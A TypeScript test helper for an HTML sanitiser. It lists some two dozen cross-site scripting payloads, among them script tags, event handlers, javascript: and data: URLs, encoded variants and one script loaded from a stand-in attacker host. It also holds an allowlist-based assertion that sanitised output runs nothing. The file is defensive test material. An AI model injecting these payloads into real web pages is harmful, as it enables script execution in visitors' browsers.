import { expect } from 'vitest';

/**
 * HTML an attacker (or a careless paste) might save as content: each line tries to run script in a
 * guest's browser by another road. Every one carries `window.__xss` or `alert`, so a browser test
 * can tell whether any ran.
 */
export const HOSTILE_HTML = [
  '<script>window.__xss = 1; alert("script")</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src="x" onerror="window.__xss = 2; alert(\'onerror\')">',
  '<p onclick="alert(1)" onmouseover="window.__xss = 3">悬停</p>',
  '<a href="javascript:alert(\'href\')">点我</a>',
  '<a href="JaVaScRiPt:window.__xss=4">大小写</a>',
  '<a href="&#106;avascript:alert(5)">实体编码</a>',
  '<svg onload="window.__xss = 6; alert(\'svg\')"><circle r="4"/></svg>',
  '<svg><script>alert("svg script")</script></svg>',
  '<iframe src="javascript:alert(\'iframe\')"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<div style="background:url(javascript:alert(1)); width: expression(alert(2))">样式</div>',
  '<style>body { background: url("javascript:alert(3)") }</style>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+">',
  '<a href="data:text/html,<script>alert(7)</script>">data 链接</a>',
  '<object data="javascript:alert(8)"></object><embed src="javascript:alert(9)">',
  '<form action="javascript:alert(10)"><button>提交</button></form>',
  '<img src=x onerror=alert(12)//',
  '<p>未闭合<b>的<i>标签',
  '"><img src=x onerror=alert(13)>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(14)">',
  '<base href="javascript:alert(15)//">',
  // last: a raw-text element swallows whatever follows it
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(11)>',
].join('\n');

const SAFE_TAGS = new Set(
  'p br hr h2 h3 h4 h5 strong b em i u s span div ul ol li blockquote a img figure figcaption table thead tbody tr th td'.split(
    ' ',
  ),
);
const SAFE_ATTRIBUTES = new Set([
  'href',
  'src',
  'alt',
  'width',
  'height',
  'title',
  'target',
  'rel',
  'class',
  'colspan',
  'rowspan',
]);

/**
 * Asserts that HTML can run nothing: only harmless tags and attributes, links and images only to
 * http(s), mail, phone or this site. The sanitiser escapes every `<` of text, so each `<` starts a
 * real tag and all of them are looked at.
 */
export function expectHarmless(html: string): void {
  for (const [, name = '', attributes = ''] of html.matchAll(/<\/?([a-zA-Z0-9-]+)([^>]*)>/g)) {
    expect(SAFE_TAGS, `tag <${name}> in ${html}`).toContain(name.toLowerCase());
    for (const [, attribute = '', value = ''] of attributes.matchAll(/([^\s=/]+)(?:="([^"]*)")?/g)) {
      expect(SAFE_ATTRIBUTES, `attribute ${attribute} in ${html}`).toContain(attribute.toLowerCase());
      if (attribute === 'href' || attribute === 'src')
        expect(value).toMatch(/^(https?:|mailto:|tel:|\/(?!\/)|#|[a-z0-9])/i);
      expect(value).not.toMatch(/javascript:|data:|expression\(/i);
    }
  }
  expect(html).not.toMatch(/<(script|iframe|svg|style|object|embed|form|meta|base|math)\b/i);
}
